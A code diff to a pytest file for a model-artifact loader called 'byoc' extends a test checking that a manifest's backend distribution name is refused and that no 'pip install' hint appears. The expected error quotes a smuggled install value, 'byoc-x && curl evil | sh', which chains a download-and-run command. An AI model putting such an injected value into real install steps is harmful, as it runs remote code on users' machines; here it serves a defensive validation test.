@@ -7,12 +7,14 @@ from __future__ import annotations
 
 import hashlib
 import json
+import re
 import subprocess
 import sys
 import zipfile
 from pathlib import Path
 
 import byoc
+import byoc.reader
 import numpy as np
 import onnxruntime as ort
 import pytest
@@ -186,9 +188,11 @@ def test_the_install_hint_names_only_a_distribution(good, tmp_path):
         )
 
     bad = edited(good[0], tmp_path / "hint.byoc", manifest=rename)
-    with pytest.raises(byoc.ArtifactError, match="which is not a distribution name") as err:
-        byoc.load(bad)
-    assert "pip install" not in str(err.value)
+    words = "'backends[1].distribution' is not a distribution name: 'byoc-x && curl evil | sh'"
+    for read in (byoc.load, byoc.reader.inspect):  # refused as the manifest is read
+        with pytest.raises(byoc.ArtifactError, match=re.escape(words)) as err:
+            read(bad)
+        assert "pip install" not in str(err.value)
 
 
 def test_names_with_control_characters_are_refused(good, tmp_path):
